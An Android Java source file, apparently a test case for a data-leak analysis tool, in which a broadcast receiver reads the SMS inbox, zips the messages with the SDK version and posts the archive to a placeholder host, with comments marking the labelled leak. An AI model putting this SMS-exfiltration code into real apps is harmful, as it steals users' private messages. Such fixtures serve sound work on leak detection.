package olden;

import android.content.*;
import android.database.*;
import android.net.Uri;
import android.os.*;

import org.apache.http.client.methods.*;
import org.apache.http.entity.*;
import org.apache.http.impl.client.DefaultHttpClient;

import java.io.*;
import java.net.*;
import java.util.*;
import java.util.zip.*;

/** Messages in a file, in an archive, in a request. */
public class Zipped extends BroadcastReceiver {
    static void zip(File[] fs, File z) throws IOException {
        ZipOutputStream o = new ZipOutputStream(new BufferedOutputStream(new FileOutputStream(z)));
        byte[] b = new byte[1024];
        for (File f : fs) {
            o.putNextEntry(new ZipEntry(f.getName()));
            InputStream i = new FileInputStream(f);
            int n;
            while ((n = i.read(b)) > 0) o.write(b, 0, n);
            o.closeEntry();
            i.close();
        }
        o.close();
    }

    public void onReceive(Context c, Intent i) {
        try {
            File d = c.getFilesDir();
            File s = new File(d, "sms.csv"), e = new File(d, "env.csv");
            FileOutputStream o = new FileOutputStream(s);
            Cursor k =
                    c.getContentResolver()
                            .query(Uri.parse("content://sms/inbox"), null, null, null, null);
            while (k.moveToNext())
                o.write(
                        (k.getString(k.getColumnIndexOrThrow("address"))
                                        + ";"
                                        + k.getString(k.getColumnIndexOrThrow("body"))
                                        + "\n")
                                .getBytes());
            o.close();
            FileOutputStream p = new FileOutputStream(e);
            p.write(("sdk " + Build.VERSION.SDK_INT).getBytes());
            p.close();
            File z = new File(d, "a.zip"), y = new File(d, "b.zip");
            zip(new File[] {s, e}, z);
            zip(new File[] {e}, y);
            HttpPost h = new HttpPost("http://z.example.org/");
            h.setEntity(new FileEntity(z, "application/zip"));
            new DefaultHttpClient().execute(h); // leak
            HttpPost g = new HttpPost("http://z.example.org/");
            g.setEntity(new InputStreamEntity(new FileInputStream(e), e.length()));
            new DefaultHttpClient().execute(g); // no leak
        } catch (Exception e) {
        }
    }
}
